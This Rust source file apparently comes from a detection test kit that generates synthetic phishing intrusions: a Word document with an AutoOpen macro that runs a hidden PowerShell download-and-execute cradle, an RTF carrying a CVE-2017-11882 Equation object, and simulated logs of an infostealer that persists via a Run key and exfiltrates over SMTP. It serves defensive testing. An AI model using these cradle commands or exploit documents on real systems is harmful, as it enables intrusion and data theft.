//! Commodity intrusions with nothing of the campaign in them: a macro
//! document that downloads a PowerShell script (optionally followed by a
//! rundll32 beacon), and a generic CVE-2017-11882 RTF (no RoyalRoad
//! traits) dropping an infostealer that sends its loot over SMTP.
//!
//! The macros are inert text and their URLs are defanged
//! (`hxxp://…[.]com`), so the command cannot fetch anything even if a
//! word processor ran it; the logs show what Sysmon would have recorded.

use super::chain::{EQNEDT, EXPLORER, WINWORD, later};
use super::clock::{rfc5322, stamp};
use super::site::{Site, sha256};
use crate::events::EventBuilder;
use crate::mail::{MailBuilder, mailbox};
use crate::vba::VbaProjectBuilder;
use crate::{ole, rtf};

const POWERSHELL: &str =
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const RUNDLL32: &str = r"C:\Windows\System32\rundll32.exe";

/// Where a commodity mail came from.
#[derive(Clone, Debug)]
pub(crate) struct Sender {
    pub(crate) name: &'static str,
    pub(crate) address: &'static str,
    /// Its sending server.
    pub(crate) ip: &'static str,
    pub(crate) subject: &'static str,
    pub(crate) body: &'static str,
    pub(crate) attachment: &'static str,
}

/// A beacon that follows the download.
#[derive(Clone, Debug)]
pub(crate) struct Beacon {
    pub(crate) dll: &'static str,
    pub(crate) domain: &'static str,
    pub(crate) ip: &'static str,
}

/// A macro-document intrusion at `site`, `people[target]`.
#[derive(Clone, Debug)]
pub(crate) struct MacroIncident {
    pub(crate) target: usize,
    pub(crate) day: u32,
    /// When (UTC) the document is opened.
    pub(crate) opened: &'static str,
    pub(crate) sender: Sender,
    /// Host and address the script comes from.
    pub(crate) host: &'static str,
    pub(crate) host_ip: &'static str,
    pub(crate) beacon: Option<Beacon>,
}

/// `hxxp://host[.]tld/…`: a URL nothing can fetch.
fn defang(url: &str) -> String {
    let rest = url.strip_prefix("http://").unwrap_or(url);
    let (host, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    match host.rsplit_once('.') {
        Some((name, tld)) => format!("hxxp://{name}[.]{tld}{path}"),
        None => format!("hxxp://{host}{path}"),
    }
}

impl MacroIncident {
    fn url(&self) -> String {
        format!("http://{}/dl/t.ps1", self.host)
    }

    /// The Word 97 document: an `AutoOpen` macro shelling out to a
    /// PowerShell download cradle (defanged URL).
    fn document(&self) -> Vec<u8> {
        let source = format!(
            "Sub AutoOpen()\r\n    Dim c As String\r\n    c = \"powershell \
             -nop -w hidden -c \"\"IEX (New-Object Net.WebClient).\
             DownloadString('{}')\"\"\"\r\n    Shell c, vbHide\r\nEnd Sub\r\n",
            defang(&self.url())
        );
        VbaProjectBuilder::new()
            .document_module("ThisDocument", "")
            .module("NewMacros", &source)
            .word_document(
                "Enable editing and content to view this document.\r",
            )
    }

    /// The mail: `(UTC stamp, bytes)`.
    pub(crate) fn mail(&self, site: &Site) -> (String, Vec<u8>) {
        let s = &self.sender;
        let to = &site.people[self.target];
        let hms = later(self.opened, 0);
        let t = stamp(self.day, &hms);
        let received = format!(
            "from smtp.{dom} (smtp.{dom} [{}])\r\n\tby mx.{}; {}",
            s.ip,
            site.mail,
            rfc5322(self.day, &hms, 0),
            dom = s.address.rsplit('@').next().unwrap_or(""),
        );
        let mail = MailBuilder::new()
            .header("Received", &received)
            .from(&mailbox(s.name, s.address))
            .to(&mailbox(to.name, &format!("{}@{}", to.login, site.mail)))
            .subject(s.subject)
            .date(&rfc5322(self.day, &hms, 120))
            .message_id(&format!(
                "<{}.{}@{}>",
                self.day,
                to.login,
                s.address.rsplit('@').next().unwrap_or("")
            ))
            .text(s.body)
            .attach(s.attachment, "application/msword", &self.document())
            .build();
        (t, mail)
    }

    /// What the target's workstation logged.
    pub(crate) fn logs(&self, site: &Site) -> Vec<EventBuilder> {
        let ws = &site.workstations[self.target];
        let user = site.people[self.target].login;
        let at = |s| stamp(self.day, &later(self.opened, s));
        let explorer = site.running(ws, EXPLORER, 3011, &site.account(user));
        let doc = format!(
            r"C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\K3J9QZ2M\{}",
            self.sender.attachment
        );
        let (e1, word) = explorer.spawn(
            &at(300),
            (WINWORD, &format!(r#""{WINWORD}" /n "{doc}""#), 6120),
            None,
            None,
        );
        let cradle = format!(
            "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('{}')\"",
            self.url()
        );
        let (e2, ps) =
            word.spawn(&at(309), (POWERSHELL, &cradle, 6244), None, None);
        let mut out = vec![
            e1,
            e2,
            ps.dns(&at(310), self.host, self.host_ip),
            ps.connect(&at(311), self.host_ip, "", 80),
        ];
        if let Some(b) = &self.beacon {
            let dll = format!(r"C:\Users\{user}\AppData\Local\Temp\{}", b.dll);
            out.push(ps.file(&at(315), &dll));
            let cmd = format!("rundll32.exe {dll},DllRegisterServer");
            let (e, rundll) =
                ps.spawn(&at(318), (RUNDLL32, &cmd, 6390), None, None);
            out.push(e);
            out.push(rundll.dns(&at(320), b.domain, b.ip));
            for h in 0..8 {
                out.push(rundll.connect(
                    &at(321 + 3600 * h),
                    b.ip,
                    b.domain,
                    443,
                ));
            }
        }
        out
    }
}

/// The generic CVE-2017-11882 intrusion: a purchase-order RTF whose
/// Equation object downloads and starts an infostealer, which sends what
/// it collects over SMTP.
#[derive(Clone, Debug)]
pub(crate) struct Stealer {
    pub(crate) target: usize,
    pub(crate) day: u32,
    pub(crate) opened: &'static str,
    pub(crate) sender: Sender,
    /// Where the Equation Editor downloads from.
    pub(crate) download_ip: &'static str,
    /// The SMTP server the stealer uses.
    pub(crate) smtp: &'static str,
    pub(crate) smtp_ip: &'static str,
}

/// An RTF with an Equation object whose MTEF has the CVE-2017-11882
/// font record, and nothing of RoyalRoad: ordinary size words, no
/// `8.t`, no package, no encoded payload.
pub(crate) fn generic_rtf() -> Vec<u8> {
    let equation = ole::equation_object(&ole::mtef_cve_2017_11882());
    let data = rtf::hex_lines(&rtf::ole1_object("Equation.3", &equation));
    let mut body =
        b"{\\pard\\f0 Purchase order, see the table below.\\par}\n".to_vec();
    body.extend(rtf::object(
        "\\objemb\\objupdate",
        "Equation.3",
        data.as_bytes(),
    ));
    rtf::document("{\\rtf1", &body)
}

impl Stealer {
    /// The mail: `(UTC stamp, bytes)`.
    pub(crate) fn mail(&self, site: &Site) -> (String, Vec<u8>) {
        let s = &self.sender;
        let to = &site.people[self.target];
        let domain = s.address.rsplit('@').next().unwrap_or("");
        let received = format!(
            "from smtp.{domain} (smtp.{domain} [{}])\r\n\tby mx.{}; {}",
            s.ip,
            site.mail,
            rfc5322(self.day, "09:40:11", 0)
        );
        let mail = MailBuilder::new()
            .header("Received", &received)
            .from(&mailbox(s.name, s.address))
            .to(&mailbox(to.name, &format!("{}@{}", to.login, site.mail)))
            .subject(s.subject)
            .date(&rfc5322(self.day, "09:40:09", 240))
            .message_id(&format!("<po.{}.{}@{domain}>", self.day, to.login))
            .text(s.body)
            .attach(s.attachment, "application/msword", &generic_rtf())
            .build();
        (stamp(self.day, "09:40:09"), mail)
    }

    /// What the target's workstation logged.
    pub(crate) fn logs(&self, site: &Site) -> Vec<EventBuilder> {
        let ws = &site.workstations[self.target];
        let user = site.people[self.target].login;
        let at = |s| stamp(self.day, &later(self.opened, s));
        let explorer = site.running(ws, EXPLORER, 3012, &site.account(user));
        let doc = format!(
            r"C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\P0W8X1YT\{}",
            self.sender.attachment
        );
        let (e1, word) = explorer.spawn(
            &at(0),
            (WINWORD, &format!(r#""{WINWORD}" /n "{doc}""#), 5512),
            None,
            None,
        );
        let (e2, eq) = word.spawn(
            &at(6),
            (EQNEDT, &format!(r#""{EQNEDT}" -Embedding"#), 5630),
            None,
            None,
        );
        let vbc = format!(r"C:\Users\{user}\AppData\Roaming\vbc.exe");
        let hash =
            sha256(b"counterspy-testkit stand-in for a commodity infostealer");
        let (e3, stealer) = eq.spawn(
            &at(14),
            (&vbc, &format!(r#""{vbc}""#), 5702),
            None,
            Some(&hash),
        );
        let run = format!(
            r"HKU\{}\Software\Microsoft\Windows\CurrentVersion\Run\vbc",
            Site::sid(site.ad, 1107)
        );
        let mut out = vec![
            e1,
            e2,
            eq.connect(&at(7), self.download_ip, "", 80),
            eq.file(&at(12), &vbc),
            e3,
            stealer.reg(&at(16), &run, &vbc),
            stealer.dns(&at(60), self.smtp, self.smtp_ip),
        ];
        for h in 0..4 {
            out.push(stealer.connect(
                &at(61 + 3600 * h),
                self.smtp_ip,
                self.smtp,
                587,
            ));
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn urls_are_defanged() {
        assert_eq!(
            defang("http://cdn.example-portal.com/dl/t.ps1"),
            "hxxp://cdn.example-portal[.]com/dl/t.ps1"
        );
    }
}
